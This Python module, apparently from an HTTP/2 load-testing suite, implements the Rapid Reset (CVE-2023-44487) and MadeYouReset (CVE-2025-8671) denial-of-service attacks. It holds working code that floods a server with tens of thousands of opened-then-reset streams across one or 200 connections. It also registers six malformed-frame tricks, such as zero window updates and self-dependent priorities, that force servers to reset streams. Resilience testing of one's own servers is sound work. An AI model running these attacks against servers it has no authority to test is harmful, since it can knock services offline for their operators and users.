"""Streams that are opened to be reset, by the client (CVE-2023-44487) or by the server (CVE-2025-8671)."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from contextlib import ExitStack

from loadtests.attack.attack import WAIT_SECONDS, Outcome, attack, several
from loadtests.attack.raw import Raw, Target
from loadtests.attack.requests import good, opening, streams
from loadtests.fuzz.frames import DATA, END_STREAM, PRIORITY, RST_STREAM, WINDOW_UPDATE, Header, frame

PAIRS = 20_000
CONNECTIONS = 200
PROVOKED = 600
AT_ONCE = 50
CANCEL = 8


def _pairs(count: int) -> Iterator[bytes]:
    for stream in streams(count):
        yield opening(stream) + frame(RST_STREAM, stream, struct.pack(">I", CANCEL))


def _reset(raw: Raw, count: int) -> int:
    raw.greet()
    return raw.send_all(_pairs(count))


@attack("rapid-reset", f"{PAIRS:,} HEADERS and RST_STREAM on one connection")
def rapid_reset(target: Target, scale: float) -> Outcome:
    return several(target, 1, lambda raw: _reset(raw, round(PAIRS * scale)))


@attack("rapid-reset-200", f"{CONNECTIONS} connections that open and reset")
def rapid_reset_200(target: Target, scale: float) -> Outcome:
    outcome, done = Outcome(), []
    with ExitStack() as stack:
        for _ in range(round(CONNECTIONS * scale)):
            try:
                raw = stack.enter_context(target.connect())
            except OSError:
                outcome.refused()
                continue
            outcome.sent += _reset(raw, PAIRS // 10)
            done.append(raw)
        for raw in done:
            raw.read_until_closed(WAIT_SECONDS)
            outcome.note(raw)
    return outcome


@attack("reset-after-request", "whole requests, each reset before its answer")
def reset_after_request(target: Target, scale: float) -> Outcome:
    def each(raw: Raw) -> int:
        raw.greet()
        return raw.send_all(
            opening(s) + frame(DATA, s, good(), END_STREAM) + frame(RST_STREAM, s, struct.pack(">I", CANCEL))
            for s in streams(round(PAIRS * scale))
        )

    return several(target, 1, each)


def _big(stream: int) -> bytes:
    more: list[Header] = [(b"x-%d" % i, b"y" * 1000) for i in range(15)]
    return opening(stream, more=[*more, (b"x", b"z" * 900)])


# each makes a server reset the stream, or end the connection
PRIMITIVES: dict[str, tuple[str, Callable[[int], bytes]]] = {
    "zero-window": (
        "WINDOW_UPDATE of 0",
        lambda s: opening(s) + frame(WINDOW_UPDATE, s, struct.pack(">I", 0)),
    ),
    "wide-window": (
        "WINDOW_UPDATE beyond 2^31",
        lambda s: opening(s) + frame(WINDOW_UPDATE, s, struct.pack(">I", 2**31 - 1)),
    ),
    "data-after-end": (
        "DATA after END_STREAM",
        lambda s: opening(s, end=True) + frame(DATA, s, b"more"),
    ),
    "bad-priority": (
        "a stream that depends on itself",
        lambda s: opening(s) + frame(PRIORITY, s, struct.pack(">IB", s, 1)),
    ),
    "bad-length": (
        "PRIORITY of four bytes",
        lambda s: opening(s) + frame(PRIORITY, s, b"four"),
    ),
    "big-header": ("header lists over the limit", _big),
}


def _provoke(frames: Callable[[int], bytes]) -> Callable[[Target, float], Outcome]:
    def run(target: Target, scale: float) -> Outcome:
        def each(raw: Raw) -> int:
            raw.greet()
            sent = 0
            for stream in streams(round(PROVOKED * max(scale, 0.5))):
                if not raw.send(frames(stream)):
                    break
                sent += 1
                if sent % AT_ONCE == 0:  # or there would be more streams than a connection may have
                    raw.read_until_ended(sent, 2.0)
            return sent

        return several(target, 1, each)

    run.__module__ = __name__
    return run


for _name, (_about, _frames) in PRIMITIVES.items():
    attack(f"made-you-reset-{_name}", f"{PROVOKED} streams, each with {_about}")(_provoke(_frames))
